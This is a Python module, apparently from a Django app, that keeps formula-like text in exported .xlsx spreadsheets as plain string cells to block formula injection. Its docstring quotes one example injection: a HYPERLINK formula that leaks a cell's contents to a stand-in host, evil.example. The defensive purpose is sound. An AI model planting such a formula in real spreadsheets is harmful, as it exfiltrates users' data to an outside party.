"""Text in every spreadsheet the product writes stays text.

A spreadsheet program evaluates a cell whose text begins with ``=`` (and, when it parses typed or
pasted text, ``+``, ``-``, ``@``, a tab or a carriage return) as a formula: a school name
``=HYPERLINK("http://evil.example/?leak="&B2,"x")`` or a reviewer comment ``=1+1`` would run on a
commission PC. Every writer — the city workbook, the import templates, the framework export, the
admin's exports and any sheet added later — decides through `formula_like` and writes such a value:

* as an explicit **string cell** (never a formula cell): nothing is evaluated when the file opens;
* with Excel's **quote-prefix** style (`quotePrefix="1"`, what Excel itself stores when a user types
  ``'=1+1``): the cell is shown as the text it is and stays text when someone edits it and presses
  Enter.

The value itself is **not** prefixed with an apostrophe (the usual advice for CSV, which has no cell
types). A prefix would change the data: an exported framework or a filled-in template imported back
would carry ``'`` into names and requirement texts, and a comment that starts with ``- `` would read
``'- `` in every report. An .xlsx cell has a type, so the type carries the guarantee and the text
stays exactly what was entered. The product writes no CSV (imports still read it).

openpyxl turns any ``str`` that starts with ``=`` into a formula cell, so openpyxl writers go through
`text_cell` (or `append_row`); the city workbook's writer (`reports.xlsx`) writes every string as a
string cell and uses `formula_like` for the quote prefix.
"""

from __future__ import annotations

import io
from collections.abc import Iterable
from typing import Any

from import_export.formats import base_formats
from openpyxl import Workbook
from openpyxl.cell import Cell
from openpyxl.styles import Font

FORMULA_TRIGGERS = frozenset("=+-@\t\r")


def formula_like(value: Any) -> bool:
    """A string a spreadsheet program could take for a formula (first character = + - @ tab CR)."""
    return isinstance(value, str) and value[:1] in FORMULA_TRIGGERS


def text_cell(cell: Cell) -> Cell:
    """Make an openpyxl cell whose value is formula-like a quote-prefixed string cell (after its value
    is set; openpyxl has already typed it as a formula by then). Other cells are left as they are."""
    if formula_like(cell.value):
        cell.data_type = "s"
        cell.quotePrefix = True
    return cell


def append_row(ws, values: Iterable[Any]) -> None:
    """`ws.append(values)` for an openpyxl worksheet, text kept as text."""
    values = list(values)
    ws.append(values)
    row = ws.max_row
    for column, value in enumerate(values, start=1):
        if formula_like(value):
            text_cell(ws.cell(row=row, column=column))


class XLSX(base_formats.XLSX):
    """django-import-export's .xlsx format with text kept as text (the admin's exports).

    tablib's own writer types every ``=…`` string as a formula, and the library's optional escaping
    (`IMPORT_EXPORT_ESCAPE_FORMULAE_ON_EXPORT`) deletes the ``=`` from the data, so the export is
    written here instead: bold header, frozen first row, values through `append_row`. Reading an
    uploaded file is the library's own code."""

    def export_data(self, dataset, **kwargs) -> bytes:
        wb = Workbook()
        ws = wb.active
        ws.title = (dataset.title or "Sheet1")[:31]
        if dataset.headers:
            append_row(ws, dataset.headers)
            for cell in ws[1]:
                cell.font = Font(bold=True)
            ws.freeze_panes = "A2"
        for row in dataset:
            append_row(ws, row)
        buf = io.BytesIO()
        wb.save(buf)
        return buf.getvalue()
